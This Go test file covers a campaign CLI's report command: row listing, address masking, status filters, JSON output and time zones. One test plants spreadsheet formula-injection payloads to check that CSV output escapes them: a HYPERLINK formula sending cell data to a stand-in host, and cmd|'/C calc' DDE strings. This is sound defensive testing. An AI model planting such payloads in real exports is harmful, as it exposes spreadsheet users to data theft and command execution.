package main

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/campaignctl/campaignctl/campaign"
)

// reportEnv launches a small SMS campaign whose audience has three eligible customers (a, b, c) and
// three excluded rows (a second row of a: duplicate_user; d without consent: no_consent; e with a
// number that is none: invalid_address), then records a as sent and delivered and b as failed, as a
// worker would. It returns the environment, the campaign's ID and a counter over the engine database.
func reportEnv(t *testing.T) (map[string]string, string, func(string) int64) {
	t.Helper()
	env, count := badInputDB(t)
	ctx := context.Background()
	db := mustConnect(t, env["DATABASE_URL"])
	for _, sql := range []string{
		`INSERT INTO customers VALUES ('a', '+905321000009', 'Zeki'), ('d', '+905321000004', 'Dora'), ('e', 'not-a-phone', 'Eda')`,
	} {
		if _, err := db.Exec(ctx, sql); err != nil {
			t.Fatal(err)
		}
	}
	audience := writeFile(t, "a.sql", "SELECT user_id, phone, first_name FROM customers ORDER BY first_name")
	stdout, stderr, code := cli(t, env, "launch", "--name", "rapor", "--channel", "sms", "--audience", audience,
		"--message", testPrefix+"Merhaba {{.first_name}}", "--yes", "--json")
	if code != 0 {
		t.Fatalf("launch: exit %d\nstdout: %s\nstderr: %s", code, stdout, stderr)
	}
	var rep struct {
		ID json.Number `json:"id"`
	}
	if err := json.Unmarshal([]byte(stdout), &rep); err != nil || rep.ID == "" {
		t.Fatalf("launch --json: %v\n%s", err, stdout)
	}
	for _, sql := range []string{
		`UPDATE campaign_recipients SET status = 'sent', provider_message_id = 'SM1', attempts = 1, sent_at = now(),
			delivery = 'delivered', delivery_at = now() WHERE campaign_id = ` + rep.ID.String() + ` AND user_id = 'a'`,
		`UPDATE campaign_recipients SET status = 'failed', reason = 'unreachable number', attempts = 1
			WHERE campaign_id = ` + rep.ID.String() + ` AND user_id = 'b'`,
	} {
		if _, err := db.Exec(ctx, sql); err != nil {
			t.Fatal(err)
		}
	}
	return env, rep.ID.String(), count
}

// A report masks a user ID that is an address (an audience keyed by phone number or e-mail), as it masks
// the address column, unless --with-address: it printed +905550021211 and veli@example.com in full.
func TestReportMasksUserIDsThatAreAddresses(t *testing.T) {
	t.Parallel()
	env, id, _ := reportEnv(t)
	db := mustConnect(t, env["DATABASE_URL"])
	if _, err := db.Exec(context.Background(), `UPDATE campaign_recipients SET user_id = 'veli@example.com' WHERE campaign_id = $1 AND user_id = 'c'`, id); err != nil {
		t.Fatal(err)
	}
	for _, format := range []string{"--csv", "--json"} {
		out, stderr, code := cli(t, env, "report", id, format)
		if code != 0 || strings.Contains(out, "veli@example.com") || !strings.Contains(out, "v***@example.com") {
			t.Errorf("report %s: exit %d, %s%s; want the e-mail user ID masked", format, code, out, stderr)
		}
	}
	if out, _, _ := cli(t, env, "report", id, "--csv", "--with-address"); !strings.Contains(out, "veli@example.com") {
		t.Errorf("report --with-address hides the user ID:\n%s", out)
	}
}

// reportCSV runs report with args and returns its CSV rows as user:status:reason, sorted, and the rows.
func reportCSV(t *testing.T, env map[string]string, args ...string) ([]string, [][]string, string) {
	t.Helper()
	stdout, stderr, code := cli(t, env, append([]string{"report"}, args...)...)
	if code != 0 {
		t.Fatalf("report %v: exit %d\nstderr: %s", args, code, stderr)
	}
	recs, err := csv.NewReader(strings.NewReader(stdout)).ReadAll()
	if err != nil {
		t.Fatalf("report %v: not CSV: %v\n%s", args, err, stdout)
	}
	if len(recs) == 0 || !slices.Equal(recs[0], reportColumns) {
		t.Fatalf("report %v: header %v, want %v", args, recs[0], reportColumns)
	}
	var keys []string
	for _, r := range recs[1:] {
		keys = append(keys, r[0]+":"+r[2]+":"+r[3])
	}
	slices.Sort(keys)
	return keys, recs[1:], stdout
}

func TestReportListsEveryAudienceRowOnce(t *testing.T) {
	t.Parallel()
	env, id, _ := reportEnv(t)
	all := []string{
		"a:excluded:duplicate_user", "a:sent:", "b:failed:unreachable number", "c:pending:",
		"d:excluded:no_consent", "e:excluded:invalid_address",
	}
	for _, args := range [][]string{{id}, {id, "--csv"}} {
		keys, rows, out := reportCSV(t, env, args...)
		if diff := cmp.Diff(all, keys); diff != "" {
			t.Errorf("report %v rows (-want +got):\n%s", args, diff)
		}
		for _, phone := range []string{"+905321000001", "+905321000002", "+905321000009", "+905321000004"} {
			if strings.Contains(out, phone) {
				t.Errorf("report %v prints %s unmasked:\n%s", args, phone, out)
			}
		}
		for _, r := range rows {
			if r[0] == "a" && r[2] == "sent" && (r[6] != "SM1" || r[7] != "1" || r[8] == "" || r[9] != "delivered" || r[10] == "") {
				t.Errorf("sent row lacks its message ID, attempts or times: %v", r)
			}
		}
	}
	withTwilio := map[string]string{"TWILIO_ACCOUNT_SID": "AC1"}
	for k, v := range env {
		withTwilio[k] = v
	}
	_, rows, _ := reportCSV(t, withTwilio, id, "--status", "sent,pending")
	for _, r := range rows {
		if want := map[string]string{"sent": "twilio", "pending": ""}[r[2]]; r[5] != want {
			t.Errorf("%s row's provider %q, want %q", r[2], r[5], want)
		}
	}
	// A message whose template failed for its row never reached a provider: the row names none.
	db := mustConnect(t, env["DATABASE_URL"])
	if _, err := db.Exec(context.Background(), `UPDATE campaign_recipients SET status = 'failed', reason = $2, attempts = 1
		WHERE campaign_id = $1 AND user_id = 'c'`, id, campaign.TemplateFailure+"map has no entry for key \"first_name\""); err != nil {
		t.Fatal(err)
	}
	_, rows, _ = reportCSV(t, withTwilio, id, "--status", "failed")
	for _, r := range rows {
		if want := map[string]string{"b": "twilio", "c": ""}[r[0]]; r[5] != want {
			t.Errorf("failed row of %s (%s): provider %q, want %q", r[0], r[3], r[5], want)
		}
	}
	_, rows, out := reportCSV(t, env, id, "--with-address")
	for _, phone := range []string{"+905321000001", "+905321000002", "+905321000003", "+905321000009", "+905321000004"} {
		if !strings.Contains(out, phone) {
			t.Errorf("report --with-address lacks %s:\n%s", phone, out)
		}
	}
	// The row excluded as invalid_address shows the audience's value as it was: there is no address to
	// show but that (it was empty).
	for _, r := range rows {
		if r[0] == "e" && r[1] != "not-a-phone" {
			t.Errorf("report --with-address: e's invalid address shown as %q, want the audience's value not-a-phone", r[1])
		}
	}
}

func TestReportFiltersByStatus(t *testing.T) {
	t.Parallel()
	env, id, _ := reportEnv(t)
	for _, tt := range []struct {
		status string
		want   []string
	}{
		{"failed", []string{"b:failed:unreachable number"}},
		{"excluded", []string{"a:excluded:duplicate_user", "d:excluded:no_consent", "e:excluded:invalid_address"}},
		{"sent, pending", []string{"a:sent:", "c:pending:"}},
		{"failed,excluded", []string{"a:excluded:duplicate_user", "b:failed:unreachable number", "d:excluded:no_consent", "e:excluded:invalid_address"}},
		{"unknown", nil},
	} {
		keys, _, _ := reportCSV(t, env, id, "--status", tt.status)
		if diff := cmp.Diff(tt.want, keys); diff != "" {
			t.Errorf("--status %q (-want +got):\n%s", tt.status, diff)
		}
	}
	_, stderr, code := cli(t, env, "report", id, "--status", "sent,delivered")
	if code != 2 || !strings.Contains(stderr, `"delivered"`) || !strings.Contains(stderr, "excluded") || !strings.Contains(stderr, "pending") {
		t.Errorf("--status delivered: exit %d, want 2 naming the valid statuses\n%s", code, stderr)
	}
}

func TestReportJSON(t *testing.T) {
	t.Parallel()
	env, id, _ := reportEnv(t)
	stdout, stderr, code := cli(t, env, "report", id, "--json")
	if code != 0 {
		t.Fatalf("report --json: exit %d\n%s", code, stderr)
	}
	var rows []map[string]any
	if err := json.Unmarshal([]byte(stdout), &rows); err != nil {
		t.Fatalf("report --json is not one JSON array: %v\n%s", err, stdout)
	}
	if len(rows) != 6 {
		t.Fatalf("report --json: %d rows, want 6\n%s", len(rows), stdout)
	}
	for _, r := range rows {
		for _, k := range reportColumns {
			if _, ok := r[k]; !ok {
				t.Errorf("row %v lacks %q", r, k)
			}
		}
		if r["user_id"] == "a" && r["status"] == "sent" && (r["provider_message_id"] != "SM1" || r["delivered_at"] == nil || r["sent_at"] == nil) {
			t.Errorf("sent row: %v", r)
		}
		if r["address"] == "+905321000001" {
			t.Errorf("--json prints the address unmasked: %v", r)
		}
	}
	stdout, _, code = cli(t, env, "report", id, "--json", "--status", "unknown")
	if code != 0 || strings.TrimSpace(stdout) != "[]" {
		t.Errorf("report --json of no rows: exit %d, %q, want []", code, stdout)
	}
	if _, stderr, code := cli(t, env, "report", id, "--json", "--csv"); code != 2 {
		t.Errorf("--json --csv: exit %d, want 2\n%s", code, stderr)
	}
}

func TestReportUnknownCampaignAndBadID(t *testing.T) {
	t.Parallel()
	env, _, _ := reportEnv(t)
	for _, tt := range []struct{ id, says string }{{"999999", "no campaign has id 999999"}, {"x", "must be a positive number"}} {
		stdout, stderr, code := cli(t, env, "report", tt.id)
		if code != 2 || !strings.Contains(stderr, tt.says) || stdout != "" {
			t.Errorf("report %s: exit %d, want 2 saying %q\nstdout: %s\nstderr: %s", tt.id, code, tt.says, stdout, stderr)
		}
	}
}

func TestReportDryRunWritesNoExclusions(t *testing.T) {
	t.Parallel()
	env, _, count := reportEnv(t)
	before := count(`SELECT count(*) FROM campaign_exclusions`)
	if before != 3 {
		t.Fatalf("the launch stored %d exclusions, want 3", before)
	}
	audience := writeFile(t, "a.sql", "SELECT user_id, phone, first_name FROM customers")
	if stdout, stderr, code := cli(t, env, "launch", "--name", "prova", "--channel", "sms", "--audience", audience,
		"--message", testPrefix+"Merhaba {{.first_name}}", "--dry-run"); code != 0 {
		t.Fatalf("dry run: exit %d\nstdout: %s\nstderr: %s", code, stdout, stderr)
	}
	if after := count(`SELECT count(*) FROM campaign_exclusions`); after != before {
		t.Errorf("a dry run wrote %d exclusions", after-before)
	}
}

// The campaigns' table shows when each was created in --tz, as the one campaign's view does; its JSON stays
// UTC. (Mutation: the list printing the JSON's UTC text, as before, shows no +09 under Asia/Tokyo.)
func TestTheStatusListShowsItsTimesInTheZoneAsked(t *testing.T) {
	t.Parallel()
	env, id, _ := reportEnv(t)
	out, stderr, code := cli(t, env, "status", "--tz", "Asia/Tokyo")
	if code != 0 {
		t.Fatalf("status --tz Asia/Tokyo: exit %d, %s", code, stderr)
	}
	var row string
	for _, l := range strings.Split(out, "\n") {
		if f := strings.Fields(l); len(f) > 0 && f[0] == id {
			row = l
		}
	}
	if !strings.Contains(row, "JST") {
		t.Fatalf("status --tz Asia/Tokyo: campaign %s's row %q shows no time in JST:\n%s", id, row, out)
	}
	js, _, _ := cli(t, env, "status", "--json", "--tz", "Asia/Tokyo")
	if !strings.Contains(js, `Z"`) || strings.Contains(js, "JST") {
		t.Fatalf("status --json is not in UTC: %s", js)
	}
}

// A report's CSV is opened in spreadsheets: a provider's error text, an imported code or an audience
// value that starts like a formula is printed as text (a leading '), a phone number as it is. The JSON
// keeps every value as it is.
func TestReportCSVShowsFormulasAsText(t *testing.T) {
	t.Parallel()
	env, id, _ := reportEnv(t)
	db := mustConnect(t, env["DATABASE_URL"])
	if _, err := db.Exec(context.Background(), `UPDATE campaign_recipients SET reason = '=HYPERLINK("http://x.example/?"&A2,"open")',
		delivery_error = '@SUM(1+1)*cmd|''/C calc''!A0' WHERE campaign_id = $1 AND user_id = 'b'`, id); err != nil {
		t.Fatal(err)
	}
	if _, err := db.Exec(context.Background(), `UPDATE campaign_recipients SET delivery_error = '-2+3+cmd|''/C calc''!A0',
		provider_message_id = '+1-2' WHERE campaign_id = $1 AND user_id = 'a'`, id); err != nil {
		t.Fatal(err)
	}
	_, rows, _ := reportCSV(t, env, id, "--with-address")
	got := map[string][]string{}
	for _, r := range rows {
		if r[2] != "excluded" {
			got[r[0]] = r
		}
	}
	for _, c := range []struct {
		user string
		col  int
		want string
	}{
		{"b", 3, `'=HYPERLINK("http://x.example/?"&A2,"open")`},
		{"b", 11, `'@SUM(1+1)*cmd|'/C calc'!A0`},
		{"a", 11, `'-2+3+cmd|'/C calc'!A0`},
		{"a", 6, "'+1-2"},
		{"a", 1, "+905321000001"},
	} {
		if r := got[c.user]; r == nil || r[c.col] != c.want {
			t.Errorf("%s's %s: %q, want %q", c.user, reportColumns[c.col], r, c.want)
		}
	}
	// Masked, the addresses stay as they are too.
	_, rows, _ = reportCSV(t, env, id)
	for _, r := range rows {
		if r[0] == "a" && r[2] == "sent" && r[1] != "+905*****0001" {
			t.Errorf("a's masked address: %q, want +905*****0001", r[1])
		}
	}
	for in, want := range map[string]string{"-1": "-1", "-0.5": "-0.5", "-2+3": "'-2+3", "+90 532": "'+90 532", "+": "'+"} {
		if got := spreadsheetText(in); got != want {
			t.Errorf("spreadsheetText(%q) = %q, want %q", in, got, want)
		}
	}
	out, _, code := cli(t, env, "report", id, "--json", "--status", "failed")
	if code != 0 || !strings.Contains(out, `"reason":"=HYPERLINK(`) {
		t.Errorf("report --json: exit %d, %s; want the reason as it is", code, out)
	}
}
